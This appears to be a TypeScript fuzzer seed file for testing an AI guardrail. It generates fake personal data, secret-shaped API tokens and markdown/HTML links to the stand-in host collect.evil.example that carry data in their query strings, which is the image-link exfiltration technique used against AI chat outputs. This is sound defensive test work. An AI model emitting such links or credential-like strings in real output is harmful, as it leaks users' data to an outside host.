import type { Obligation } from '../guardrail/obligation.ts'
import { below, pick, type Random } from './seeded-random.ts'

/** A value that must not pass. Made up from the published shape of its kind, so none belongs to anybody. */
export interface ValueSeed {
  readonly kind: string
  readonly category: 'pii' | 'secret' | 'link' | 'banned' | 'prompt-leak' | 'grounding' | 'authority'
  readonly text: string
  /** What must be gone afterwards: the value, or the host of a link. */
  readonly mark: string
  /** Whether an encoded form is still the value; an encoded link leads nowhere. */
  readonly hasForms: boolean
  /** What a rule of the user's own asks for; of other values the policy says it. */
  readonly asked?: Obligation | undefined
  /** What stops it where that is no text guard: whether a call with this text in its arguments is held back. */
  readonly isHeld?: ((text: string) => boolean) | undefined
}

const DIGITS = '0123456789'
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'
const LOWER = UPPER.toLowerCase()
const ALNUM = UPPER + LOWER + DIGITS
const HEX = '0123456789abcdef'

const run = (random: Random, alphabet: string, length: number): string =>
  Array.from({ length }, () => alphabet.charAt(below(random, alphabet.length))).join('')

/** Check digit of ISO/IEC 7812-1 annex B. */
function luhn(body: string): string {
  let sum = 0
  for (let index = 0; index < body.length; index++) {
    const digit = Number(body.charAt(body.length - 1 - index)) * (index % 2 === 0 ? 2 : 1)
    sum += digit > 9 ? digit - 9 : digit
  }
  return body + String((10 - (sum % 10)) % 10)
}

/** Check digits of ISO 7064 MOD 97-10 in front of the account. */
function iban(country: string, account: string): string {
  let remainder = 0
  for (const char of `${account}${country}00`)
    for (const digit of String(Number.parseInt(char, 36))) remainder = (remainder * 10 + Number(digit)) % 97
  return country + String(98 - remainder).padStart(2, '0') + account
}

const grouped = (text: string): string => text.replace(/.{4}(?=.)/g, '$& ')

const PII: readonly (readonly [string, (random: Random) => string])[] = [
  ['pii/email', (random) => `${run(random, LOWER, 7)}@example.com`],
  ['pii/email', (random) => `${run(random, LOWER, 4)}.${run(random, LOWER, 6)}+shop@mail.example.co.uk`],
  ['pii/card', (random) => luhn(`4${run(random, DIGITS, 14)}`)],
  ['pii/card', (random) => grouped(luhn(`5${pick(random, ['1', '2', '3'])}${run(random, DIGITS, 13)}`))],
  ['pii/card', (random) => luhn(`37${run(random, DIGITS, 12)}`)],
  ['pii/iban', (random) => iban('DE', run(random, DIGITS, 18))],
  ['pii/iban', (random) => grouped(iban('GB', `${run(random, UPPER, 4)}${run(random, DIGITS, 14)}`))],
  ['pii/phone', (random) => `+49 30 ${pick(random, ['2', '5', '8'])}${run(random, DIGITS, 6)}`],
  ['pii/phone', () => '+1 (415) 555-2671'],
  [
    'pii/us-ssn',
    (random) => `SSN 5${run(random, '12345', 2)}-4${pick(random, ['1', '2', '7'])}-2${run(random, DIGITS, 3)}`,
  ],
]

const SECRETS: readonly (readonly [string, (random: Random) => string])[] = [
  ['secret/aws-access-key', (random) => `AKIA${run(random, `${UPPER}234567`, 16)}`],
  ['secret/github-token', (random) => `ghp_${run(random, ALNUM, 36)}`],
  ['secret/gitlab-personal-token', (random) => `glpat-${run(random, ALNUM, 20)}`],
  ['secret/openai-key', (random) => `sk-${run(random, ALNUM, 20)}T3BlbkFJ${run(random, ALNUM, 20)}`],
  ['secret/anthropic-key', (random) => `sk-ant-api03-${run(random, ALNUM, 93)}AA`],
  ['secret/stripe-key', (random) => `sk_live_${run(random, ALNUM, 24)}`],
  [
    'secret/slack-bot-token',
    (random) => `xoxb-${run(random, DIGITS, 12)}-${run(random, DIGITS, 13)}-${run(random, ALNUM, 24)}`,
  ],
  ['secret/npm-token', (random) => `npm_${run(random, ALNUM, 36)}`],
  ['secret/huggingface-token', (random) => `hf_${run(random, ALNUM, 34)}`],
  ['secret/gitlab-pipeline-trigger-token', (random) => `glptt-${run(random, HEX, 40)}`],
  ['secret/sendgrid-key', (random) => `SG.${run(random, ALNUM, 22)}.${run(random, ALNUM, 43)}`],
  ['secret/database-password', (random) => `DB_PASSWORD=${run(random, ALNUM, 18)}`],
]

export const LINK_HOST = 'collect.evil.example'

const LINKS: readonly string[] = [
  `![report](https://${LINK_HOST}/p.png?d=c2VjcmV0)`,
  `[open the invoice](https://${LINK_HOST}/i?d=4711)`,
  `[invoice][1]\n\n[1]: https://${LINK_HOST}/i?d=4711`,
  `<https://${LINK_HOST}/a>`,
  `<img src="https://${LINK_HOST}/p.png?d=4711">`,
  `<a href='HTTPS://${LINK_HOST}/a'>invoice</a>`,
  `![x](//${LINK_HOST}/p.png)`,
  `see https://user@${LINK_HOST}:8443/a?b=c`,
]

/** Values of every kind that the fuzzer hides; the chance decides their digits. */
export function valueSeeds(random: Random): readonly ValueSeed[] {
  const value =
    (category: 'pii' | 'secret') =>
    ([kind, make]: readonly [string, (random: Random) => string]): ValueSeed => {
      const text = make(random)
      return { kind, category, text, mark: text, hasForms: true }
    }
  return [
    ...PII.map(value('pii')),
    ...SECRETS.map(value('secret')),
    ...LINKS.map((text, index): ValueSeed => ({
      kind: `link/${index + 1}`,
      category: 'link',
      text,
      mark: LINK_HOST,
      hasForms: false,
    })),
  ]
}
